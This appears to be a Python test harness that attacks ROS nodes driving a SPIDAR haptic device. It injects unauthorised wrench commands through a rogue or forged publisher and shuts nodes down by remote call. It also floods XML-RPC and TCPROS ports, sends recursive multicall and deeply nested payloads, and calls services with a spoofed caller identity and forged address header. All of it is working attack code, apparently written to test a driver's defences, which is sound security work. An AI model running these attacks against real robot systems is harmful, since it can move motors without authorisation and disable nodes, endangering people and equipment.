#!/usr/bin/python3
"""A program that wants to move motors it may not move. Usage: stranger.py ATTACK COUNT [NODE], stranger.py service NAME [HEX]

announced  registers a publisher of wrench_command with the master, sends one wrench to whoever connects, closes; COUNT times
told       the same, but tells NODE of the publisher itself (XML-RPC publisherUpdate), without the master
linger     announced, the connection reset instead of closed
shutdown   asks NODE to shut down (XML-RPC), COUNT times
multicall  sends NODE a call that calls itself
flood      sends NODE's two ports COUNT megabytes in every way that asks for room
names      tells NODE of a publisher on a host with a name of COUNT letters, and asks for its process meanwhile
deep       sends NODE a call of COUNT arrays within one another
service    calls a service, whatever its type, with these bytes as request

Prints one line `connected N` or the answers."""
import io
import os
import socket
import struct
import sys
import threading
import time
import xmlrpc.client
import xmlrpc.server

from geometry_msgs.msg import WrenchStamped

TOPIC = "/spidar/wrench_command"
PUSH = 5.0    # [N]
WAIT = float(os.environ.get("STRANGER_WAIT", "0.05"))  # [s] for a connection to come; no longer than it takes
FLOOD_TIME = 20.0  # [s]
LAST_WAIT = 2.0  # [s] for the last: a machine may be busy


def message():
    wrench = WrenchStamped()
    wrench.header.frame_id = "spidar_base"
    wrench.wrench.force.y = PUSH
    body = io.BytesIO()
    wrench.serialize(body)
    return struct.pack("<I", len(body.getvalue())) + body.getvalue()


def header(fields):
    lines = b"".join(struct.pack("<I", len(f)) + f for f in (f"{k}={v}".encode() for k, v in fields.items()))
    return struct.pack("<I", len(lines)) + lines


def node_of(name):
    master = xmlrpc.client.ServerProxy(os.environ["ROS_MASTER_URI"])
    return xmlrpc.client.ServerProxy(master.lookupNode("/stranger", name)[2])


class Publisher:
    """A node as far as a subscriber looks: XML-RPC for requestTopic, a port that sends one wrench and closes."""

    def __init__(self, reset=False):
        self.host = os.environ["ROS_IP"]
        self.reset = reset
        self.connected = 0
        self.came = threading.Event()
        self.port = socket.create_server((self.host, 0))
        self.slave = xmlrpc.server.SimpleXMLRPCServer((self.host, 0), logRequests=False, allow_none=True)
        self.slave.register_function(lambda *_: [1, "", ["TCPROS", self.host, self.port.getsockname()[1]]], "requestTopic")
        self.slave.register_function(lambda *_: [1, "", 0], "publisherUpdate")
        self.uri = f"http://{self.host}:{self.slave.server_address[1]}/"
        threading.Thread(target=self.slave.serve_forever, daemon=True).start()
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        fields = {"callerid": "/stranger", "md5sum": WrenchStamped._md5sum, "type": WrenchStamped._type, "topic": TOPIC,
                  "message_definition": "", "latching": "0"}
        while True:
            link, _ = self.port.accept()
            try:
                size = struct.unpack("<I", link.recv(4, socket.MSG_WAITALL))[0]
                link.recv(size, socket.MSG_WAITALL)
                link.sendall(header(fields) + message())
                if self.reset:
                    link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            except (OSError, struct.error):
                pass
            link.close()
            self.connected += 1
            self.came.set()

    def wait(self, last):
        self.came.wait(max(WAIT, LAST_WAIT) if last else WAIT)
        self.came.clear()


def announced(count, reset=False):
    publisher = Publisher(reset)
    master = xmlrpc.client.ServerProxy(os.environ["ROS_MASTER_URI"])
    for i in range(count):
        name = f"/stranger{i}"
        master.registerPublisher(name, TOPIC, WrenchStamped._type, publisher.uri)
        publisher.wait(i == count - 1)
        master.unregisterPublisher(name, TOPIC, publisher.uri)
    print("connected", publisher.connected)


def told(count, node):
    publisher = Publisher()
    for i in range(count):
        node_of(node).publisherUpdate("/master", TOPIC, [publisher.uri])
        publisher.wait(i == count - 1)
        node_of(node).publisherUpdate("/master", TOPIC, [])
    print("connected", publisher.connected)


def multicall(node):
    try:
        print(node_of(node).system.multicall([{"methodName": "system.multicall", "params": []}]))
    except Exception as error:  # the connection may be cut
        print(error)


def ports_of(name):
    """(host, port) of a node's calls and of its connections."""
    master = xmlrpc.client.ServerProxy(os.environ["ROS_MASTER_URI"])
    calls = master.lookupNode("/stranger", name)[2]
    topic = next(t for t, nodes in master.getSystemState("/stranger")[2][0] if name in nodes)
    way = xmlrpc.client.ServerProxy(calls).requestTopic("/stranger", topic, [["TCPROS"]])[2]
    host, port = calls[len("http://"):].rstrip("/").split(":")
    return (host, int(port)), (way[1], way[2])


def flood(count, node):
    """Megabytes that the node's machine took of each attack; no attack takes longer than FLOOD_TIME."""
    calls, connections = ports_of(node)
    head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\n"
    size = count << 20
    attacks = {"told": (calls, head + b"Content-length: %d\r\n\r\n" % size, 1), "endless header": (calls, head + b"X: ", 1),
               "more than told": (calls, head + b"Content-length: 1000\r\n\r\n", 1),
               "many": (calls, head + b"Content-length: 900000\r\n\r\n", 200),
               "connection": (connections, struct.pack("<I", min(size, 999_000_000)), 1)}
    for name, (address, begin, times) in attacks.items():
        links, sent, end = [], 0, time.monotonic() + FLOOD_TIME
        for _ in range(times):
            links.append(socket.create_connection(address, timeout=2))
            try:
                links[-1].sendall(begin)
            except OSError:
                pass
        while links and sent < size and time.monotonic() < end:
            for link in list(links):
                try:
                    sent += link.send(b"x" * (1 << 20 if times == 1 else 4000))
                except OSError:
                    links.remove(link)
        for link in links:
            link.close()
        print(f"sent {sent / (1 << 20):.0f} MB: {name}", flush=True)


def deep(count, node):
    host, port = ports_of(node)[0]
    body = b"<methodCall><methodName>getPid</methodName><params><param>" + b"<value><array><data>" * count
    with socket.create_connection((host, port), timeout=10) as link:
        link.sendall(b"POST / HTTP/1.1\r\nContent-length: %d\r\n\r\n" % len(body) + body)
        try:
            print("answered", len(link.recv(100)))
        except OSError as error:
            print(error)


def names(letters, node):
    """The slowest of some calls after the node was told of the publisher [s]."""
    host = "no.such.host"[:letters] if letters < 100 else "x" * letters
    slowest = 0.0
    asked = node_of(node)
    for topic in (TOPIC, "/tf", "/clock"):
        threading.Thread(target=lambda t=topic: node_of(node).publisherUpdate("/master", t, [f"http://{host}:11/"]), daemon=True).start()
        time.sleep(0.2)
        begin = time.monotonic()
        asked.getPid("/stranger")
        slowest = max(slowest, time.monotonic() - begin)
    print(f"slowest {slowest:.3f}")


def receive(link):
    size = struct.unpack("<I", link.recv(4, socket.MSG_WAITALL))[0]
    return link.recv(size, socket.MSG_WAITALL) if size else b""


def service(name, request):
    """`refused: REASON`, or `success FLAG` of a service whose response begins with one."""
    master = xmlrpc.client.ServerProxy(os.environ["ROS_MASTER_URI"])
    host, port = master.lookupService("/stranger", name)[2][len("rosrpc://"):].split(":")
    with socket.create_connection((host, int(port))) as link:
        # A caller may write into its header what it likes: the driver's own mark of an address, too.
        link.sendall(header({"callerid": "/haptics", "md5sum": "*", "service": name, "seen_address": "127.0.0.1"}))
        answer, fields = receive(link), {}
        while answer:
            size = struct.unpack("<I", answer[:4])[0]
            key, _, value = answer[4:4 + size].partition(b"=")
            fields[key.decode()] = value.decode()
            answer = answer[4 + size:]
        if "error" in fields:
            return "refused: " + fields["error"]
        link.sendall(struct.pack("<I", len(request)) + request)
        if link.recv(1) != b"\x01":
            return "refused: " + receive(link).decode()
        body = receive(link)
        return f"success {bool(body[0])} {body[5:].decode(errors='replace')}"


def main():
    if sys.argv[1] == "service":
        print(service(sys.argv[2], bytes.fromhex(sys.argv[3] if len(sys.argv) > 3 else "")))
        return
    attack, count = sys.argv[1], int(sys.argv[2])
    node = sys.argv[3] if len(sys.argv) > 3 else ""
    if attack in ("announced", "linger"):
        announced(count, attack == "linger")
    elif attack == "told":
        told(count, node)
    elif attack == "shutdown":
        answers = [node_of(node).shutdown("/stranger", "go away") for _ in range(count)]
        print(answers[-1])
    elif attack == "flood":
        flood(count, node)
    elif attack == "names":
        names(count, node)
    elif attack == "deep":
        deep(count, node)
    else:
        multicall(node)


if __name__ == "__main__":
    main()
